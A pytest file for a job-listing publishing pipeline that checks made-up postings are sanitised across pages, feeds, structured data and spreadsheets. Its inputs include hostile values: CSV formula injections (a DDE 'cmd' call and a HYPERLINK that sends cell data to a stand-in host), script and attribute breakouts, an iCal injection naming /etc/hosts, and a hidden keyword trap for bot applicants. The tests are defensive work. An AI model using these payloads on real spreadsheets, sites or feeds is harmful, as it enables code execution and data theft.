"""
Faults other programs were reported for in what they published, and hostile words in a posting.

The stories are theirs, the postings made up; what a board sends goes through the whole pipeline,
and what a reader or a spreadsheet gets is looked at.
"""

import csv
import json
import re
from datetime import timedelta
from io import BytesIO, StringIO
from zipfile import ZipFile

import feedparser
import pytest
from lxml import etree
from lxml import html as lxml_html

from jobtide import pipeline
from jobtide.model import Eligibility, Salary, UnitText
from jobtide.publish import dataset, feeds, readme, site, structured_data
from jobtide.publish.dataset import FORMATS, DatasetSettings
from jobtide.publish.feeds import FeedSettings
from jobtide.publish.readme import PageSettings
from jobtide.publish.site import SiteSettings
from tests.unit.publish import builders as make
from tests.unit.publish.sanitiser import lost, rendered

ALL = PageSettings(name="all", title="All", query_text="", matches=lambda opening: True)
NS = {"a": "http://www.w3.org/2005/Atom"}


def processed(**words):
    """Return a posting after all steps."""
    made = pipeline.apply(make.posting(words.pop("identifier", "1"), **words))
    assert not hasattr(made, "reason"), made
    return made


def openings(*postings, **more):
    return [make.opening(one, **more) for one in postings]


def pages(found, layout="cards", **more):
    """Return path -> text of the README pages of some openings."""
    made = readme.render(make.snapshot(*found), make.settings(layout=layout, **more))
    return {one.path: one.body.decode() for one in made}


def fed(*found):
    """Return path -> body of the feeds of some openings."""
    told = FeedSettings(everything=ALL, home="https://jobs.example/")
    return {one.path: one.body for one in feeds.render(make.snapshot(*found), told)}


def data(suffix, *postings):
    """Return the body of a data file."""
    told = DatasetSettings(formats={suffix: FORMATS[suffix]})
    made = dataset.render(make.snapshot(*openings(*postings)), told)
    return next(one.body for one in made if one.path.endswith(suffix))


def cells(*postings):
    """Return the rows of the CSV of some postings, by column."""
    return list(csv.DictReader(StringIO(data(".csv", *postings).decode("utf-8"), newline="")))


def employer(**words):
    """Return a posting of an employer's own board with all that markup needs."""
    given = {
        "source": "greenhouse",
        "board": "larkspur",
        "description": "<p>Keep the ovens warm.</p>",
        "arrangement": make.label("remote"),
        "eligibility": Eligibility(countries=(make.label("PT"),)),
    }
    return make.posting(**(given | words))


def job_page(posting):
    """Return the tree of the site's page of one job."""
    made = site.render(make.snapshot(*openings(posting)), SiteSettings())
    return next(lxml_html.fromstring(one.body) for one in made if one.path.startswith("job/"))


def shape(tree):
    """Return the cells of every row of every table."""
    return [[cell.tag for cell in row] for row in tree.iter("tr")]


def test_rows_of_a_page_are_not_glued_by_commas():
    """BL001: an array of rows must not be put into a page with commas between them."""
    page = pages(openings(processed(), processed(identifier="2", title="Ferry Scheduler")))
    text = page["backend.md"]

    assert not re.search(r"</t[rd]>\s*,\s*<t[rd]", text)
    assert text.count("Ferry Scheduler") >= 1


@pytest.mark.parametrize("layout", ["cards", "list"])
def test_a_category_of_many_jobs_is_parted_and_linked(layout):
    """BL005: every job stands on one page below GitHub's limit, and pages lead to each other."""
    long = "<p>" + "The tide tables are kept by hand, twice a day. " * 45 + "</p>"
    made = [
        make.posting(str(n), title=f"Keeper {n} of the locks", description=long)
        for n in range(500)
    ]
    found = pages(openings(*made), layout, soft_bytes=100_000, description_chars=2_000)
    parts = {name: text for name, text in found.items() if name.startswith("backend")}

    assert len(parts) > 1
    assert max(len(text.encode()) for text in parts.values()) < 500_000
    for n in range(500):
        assert sum(f"Keeper {n} of the locks" in text for text in parts.values()) == 1
    assert "(backend-2.md)" in parts["backend.md"] or 'href="backend-2.md"' in parts["backend.md"]


@pytest.mark.parametrize("layout", ["cards", "list"])
def test_a_pipe_or_a_line_end_in_a_title_breaks_no_row(layout):
    """BL104: the title reads as written, on one line, and no cell is added."""
    tree, plain = (
        rendered(pages(openings(make.posting(title=title)), layout)["backend.md"])
        for title in ("Cook | Galley\n(night)", "Cook")
    )

    assert "Cook | Galley (night)" in " ".join(tree.text_content().split())
    assert shape(tree) == shape(plain)


@pytest.mark.parametrize("layout", ["cards", "list"])
def test_signs_of_markdown_in_names_are_only_signs(layout):
    """BL105: stars, underscores, brackets and tags of a name are shown as they are."""
    company, title = "*Moss* _and_ [fern](z)", "F# <i>Lead</i> `soon`"
    tree = rendered(
        pages(openings(make.posting(title=title, hiring_organization=company)), layout)[
            "backend.md"
        ]
    )
    shown = " ".join(tree.text_content().split())

    assert company in shown
    assert title in shown
    assert not lost(tree)
    assert not [node for node in tree.iter("a") if node.get("href") == "z"]


def test_a_page_too_long_for_github_is_never_written():
    """BL106: what would pass the limit is parted before it is written."""
    made = [make.posting(str(n), title=f"Baker {n}") for n in range(1500)]
    found = pages(openings(*made), description_chars=0)

    assert max(len(text.encode()) for text in found.values()) < 500_000


def test_a_feed_holds_signs_of_xml_in_a_title():
    """BL123: well-formed, and the title reads back as it was written."""
    title = "R&D Baker <night>"
    for path, body in fed(*openings(processed(title=title))).items():
        if path in ("all.rss", "all.atom"):
            tree = etree.fromstring(body)
            read = tree.xpath("//item/title/text() | //a:entry/a:title/text()", namespaces=NS)
            assert read == [title], path


def test_an_address_cannot_leave_its_attribute_in_a_feed():
    """BL126: quotes in an address and the end of a CDATA section in words do no harm."""
    posting = processed(
        url='https://larkspur.example/?q="onmouseover="1',
        description="<p>Write dough[oven]]&gt;bread.</p>",
    )
    for path, body in fed(*openings(posting)).items():
        if path in ("all.rss", "all.atom"):
            entry = feedparser.parse(body).entries[0]
            shown = entry.get("content", [{"value": entry.get("summary", "")}])[0]["value"]
            assert not lxml_html.fromstring(f"<div>{shown}</div>").xpath("//@onmouseover"), path
            assert '"' not in entry.link, path


def test_a_feed_reaches_back_a_week_and_its_addresses_are_whole():
    """BL127: whoever looks every third day misses nothing; every link is absolute."""
    made = [
        make.opening(
            make.posting(
                str(n), title=f"Baker {n}", date_posted=make.NOW - timedelta(hours=n / 2)
            ),
            seen=make.NOW - timedelta(hours=n / 2),
        )
        for n in range(300)
    ]
    read = feedparser.parse(fed(*made)["all.atom"])

    assert len(read.entries) == 300
    assert all(re.fullmatch(r"https://[^\s{}<>]+", entry.link) for entry in read.entries)


def test_no_tracking_picture_reaches_a_page():
    """BL004: one-pixel pictures of boards are gone, the words stay."""
    posting = processed(
        description='<p>Bake bread.</p><img src="https://b.example/t/9/blank.gif?u=1" alt="">'
        '<img width=1 height=1 src="https://p.example/o.png">'
    )

    assert posting.text == "Bake bread."
    for text in pages(openings(posting)).values():
        assert "blank.gif" not in text
        assert "p.example" not in text


def test_a_secret_word_for_robots_is_not_published():
    """BL013: the sentence and its tag go, so that two copies of a job look alike again."""
    plain = processed(description="<p>Own our mill.</p>")
    noisy = processed(
        description="<p>Own our mill.</p><p>Please mention the word **HAZEL** and tag "
        "RMTAuMC4wLjc= when applying to show you read the job post completely "
        "(#RMTAuMC4wLjc=). This is a beta feature to avoid spam applicants.</p>"
    )

    assert noisy.text == plain.text


def test_a_description_that_was_escaped_once_too_often_reads_as_text():
    """BL100: no tag is shown as text, and a script that was hidden so is gone."""
    posting = processed(
        description="&lt;p&gt;Knead &amp;amp; bake&lt;/p&gt;&lt;ul&gt;&lt;li&gt;Rye&lt;/li&gt;"
        "&lt;/ul&gt;&lt;script&gt;y()&lt;/script&gt;"
    )

    assert posting.text == "Knead & bake\n• Rye"
    assert "y()" not in posting.description


def test_a_sign_inside_an_attribute_ends_no_tag():
    """BL101: what stands in quotes belongs to the tag."""
    assert processed(description='<p data-n="rye > wheat">Baker</p>').text == "Baker"


def test_plain_text_with_signs_of_order_is_not_eaten():
    """BL102: "less than" and "greater than" in plain text are words."""
    text = "Proof <5 min, loaves > 40, x < y"

    assert processed(description=text).text == text


@pytest.mark.parametrize("layout", ["cards", "list"])
def test_loose_ends_of_a_description_leave_the_next_job_alone(layout):
    """BL103: stray closing tags and open ones stay within their own job."""
    broken = processed(
        title="Baker of rye",
        description="<p>Hi</p></td></tr></table></details><div><b>bold without end",
    )
    after = processed(identifier="2", title="Baker of wheat")
    tree = rendered(pages(openings(broken, after), layout)["backend.md"])

    assert not lost(tree)
    for node in tree.iter():
        if node.text and "Baker of wheat" in node.text:
            around = [one.tag for one in node.iterancestors()]
            assert "details" not in around
    assert tree.text_content().count("Baker of wheat") >= 1


def test_a_script_in_a_posting_cannot_leave_the_markup():
    """H168: one script element for the data, which still parses; its signs are escapes."""
    posting = employer(title='Baker</script><script>x("1")</script>')
    made = structured_data.job_posting(openings(posting)[0])
    text = structured_data.script_text(made)
    scripts = job_page(posting).xpath('//script[@type="application/ld+json"]')

    assert "<" not in text
    assert "\\u003c/script" in text
    assert json.loads(text)["title"] == made["title"]
    assert len(scripts) == 1
    assert json.loads(scripts[0].text)["@type"] == "JobPosting"


def test_line_ends_of_javascript_are_written_as_escapes():
    """H170: U+2028 and U+2029 end a line where JSON is read as a script."""
    text = structured_data.script_text({"description": "rye\u2028wheat\u2029oats"})

    assert "\\u2028" in text
    assert "\\u2029" in text
    assert not {"\u2028", "\u2029"} & set(text)


@pytest.mark.parametrize(
    "formula",
    [
        pytest.param('=HYPERLINK("http://mill.example?x="&A1,"y")', id="H173"),
        pytest.param("=cmd|'/C calc'!B0", id="H174"),
        pytest.param("+2+2", id="H175"),
        pytest.param("-3+4", id="H176"),
        pytest.param("@SUM(2)", id="H177"),
        pytest.param("\uff1d2+2", id="H180"),
    ],
)
def test_a_spreadsheet_runs_no_cell(formula):
    """H173 to H180: an apostrophe stands before it, and rows keep their width."""
    posting = make.posting(title=formula, hiring_organization=formula)
    (row,) = cells(posting)
    strings = ZipFile(BytesIO(data(".xlsx", posting)))
    sheet = strings.read("xl/worksheets/sheet1.xml")

    assert row["title"] == f"'{formula}"
    assert None not in row
    assert None not in row.values()
    assert b"<f>" not in sheet


def test_numbers_of_a_spreadsheet_stay_numbers():
    """H173: a number that begins with a minus is no formula."""
    pay = Salary(currency="USD", min_value=50_000, max_value=60_000, unit_text=UnitText.YEAR)
    (row,) = cells(make.posting(base_salary=(pay,), title="-5"))

    assert row["title"] == "-5"
    assert {"50000", "60000"} <= set(row.values())


def test_line_ends_in_a_posting_begin_no_line_of_a_format():
    """H182: a title with line ends adds no row, no line of JSON, no item to a feed."""
    title = "BEGIN:VEVENT\r\nATTACH:file:///etc/hosts"
    posting = make.posting(title=title)

    assert len(cells(posting)) == 1
    assert len(data(".jsonl", posting).decode().strip().split("\n")) == 1
    read = feedparser.parse(fed(*openings(posting))["all.rss"])
    assert len(read.entries) == 1
    assert not [path for path in fed(*openings(posting)) if path.endswith(".ics")]
